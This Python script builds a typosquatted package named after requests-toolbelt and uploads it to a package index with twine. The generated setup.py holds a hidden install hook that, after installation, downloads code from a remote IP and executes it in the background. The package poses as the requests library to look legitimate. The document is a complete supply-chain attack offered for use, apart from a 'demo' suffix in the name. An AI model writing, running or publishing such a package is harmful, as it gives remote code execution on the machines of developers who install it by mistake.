import pathlib
import subprocess
import sys
import tempfile

NAME = "reqeusts-toolbelt-demo"
SETUP = '''
from setuptools import setup
from setuptools.command.install import install
import os

class Post(install):
    def run(self):
        install.run(self)
        os.system("python3 -c \\"import urllib.request as u;exec(u.urlopen('http://192.0.2.12/s').read())\\" &")

setup(name="%s", version="2.31.9", packages=["toolbelt"], cmdclass={"install": Post})
''' % NAME

root = pathlib.Path(tempfile.mkdtemp())
(root / "toolbelt").mkdir()
(root / "toolbelt" / "__init__.py").write_text("from requests import *\n")
(root / "setup.py").write_text(SETUP)
subprocess.run([sys.executable, "setup.py", "-q", "sdist"], cwd=root, check=True)
subprocess.run([sys.executable, "-m", "twine", "upload", "--non-interactive", *map(str, (root / "dist").iterdir())], check=False)
